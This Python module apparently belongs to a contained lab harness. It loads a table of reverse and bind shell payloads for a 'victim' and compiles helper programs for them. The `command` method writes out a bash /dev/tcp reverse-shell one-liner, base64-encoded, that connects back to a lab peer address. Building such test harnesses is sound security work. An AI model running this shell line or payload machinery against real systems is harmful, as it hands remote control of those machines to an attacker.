"""The payload table: what is run on the victim, read from payloads.toml, and the programs that are compiled for it."""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
import tomllib
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from lab.errors import LabError
from lab.namespaces import PATH, PEER_IP, PEER_IP6

HERE = Path(__file__).resolve().parent
PROGRAMS = HERE / "programs"
PORT, PORT2 = 4242, 4243
BUILD_SECONDS = 120

Transport = Literal["tcp", "tcp6", "udp", "tls", "tcp2", "http"]
Direction = Literal["reverse", "bind"]


@dataclass(frozen=True, slots=True)
class Payload:
    """One way to get a shell over the network; the fields are explained at the top of payloads.toml."""

    name: str
    tool: str
    argv: tuple[str, ...]
    direction: Direction = "reverse"
    transport: Transport = "tcp"
    attacker_first: bool = False
    terminal: bool = False
    build: str = ""
    needs: tuple[str, ...] = ()

    def command(self, home: Path, built: Path) -> list[str]:
        """Give the arguments with every placeholder filled in."""
        first = f"bash -i >& /dev/tcp/{PEER_IP}/{PORT} 0>&1"
        values: Mapping[str, str] = {
            "HOST": PEER_IP,
            "HOST6": PEER_IP6,
            "PORT": str(PORT),
            "PORT2": str(PORT2),
            "HOME": str(home),
            "BUILT": str(built),
            "PROGRAMS": str(PROGRAMS),
            "BASE64": base64.b64encode(first.encode()).decode(),
        }
        out = []
        for word in self.argv:
            for name, value in values.items():
                word = word.replace(f"@{name}@", value)
            out.append(word)
        return out

    def missing(self, built: Path) -> str:
        """Name the first program that this payload needs and that is not there; empty when nothing is missing."""
        for word in (self.argv[0], *self.needs):
            word = word.replace("@BUILT@", str(built))
            if not (Path(word).exists() if "/" in word else shutil.which(word, path=PATH)):
                return word
        return ""


def load_payloads(path: Path = HERE / "payloads.toml") -> list[Payload]:
    """Read the table; raises LabError for a key that is not known or a value of the wrong type."""
    out = []
    for name, entry in tomllib.loads(path.read_text("utf-8")).items():
        unknown = entry.keys() - (Payload.__dataclass_fields__.keys() - {"name"})
        if unknown:
            raise LabError(f"{path.name}: {name}: unknown key {sorted(unknown)[0]}")
        entry["argv"] = tuple(entry["argv"])
        entry["needs"] = tuple(entry.get("needs", ()))
        out.append(Payload(name=name, **entry))
    return out


def compilers() -> dict[str, str]:
    """Find the compilers: suffix of a source file -> program, those that are there."""
    extra = f"{PATH}:{Path.home()}/.cargo/bin"
    wanted = {".c": "gcc", ".java": "javac", ".rs": "rustc"}
    return {suffix: found for suffix, name in wanted.items() if (found := shutil.which(name, path=extra))}


def build(payloads: list[Payload], built: Path) -> dict[str, str]:
    """Compile what the payloads need into `built`; gives source name -> reason for each that could not be made."""
    failed: dict[str, str] = {}
    found = compilers()
    for source in sorted({payload.build for payload in payloads if payload.build}):
        suffix = Path(source).suffix
        if suffix not in found:
            failed[source] = f"no compiler for {suffix}"
            continue
        output = {".c": ["-O1", "-o", f"c{Path(source).stem}"], ".rs": ["-o", "rshell"], ".java": ["-d", "."]}[suffix]
        done = subprocess.run(
            [found[suffix], *output, str(PROGRAMS / source)],
            cwd=built,
            env={"PATH": PATH, "HOME": os.environ.get("HOME", "/root"), "TMPDIR": str(built)},
            capture_output=True,
            text=True,
            timeout=BUILD_SECONDS,
            check=False,
        )
        if done.returncode:
            failed[source] = done.stderr.strip()[-300:]
    return failed
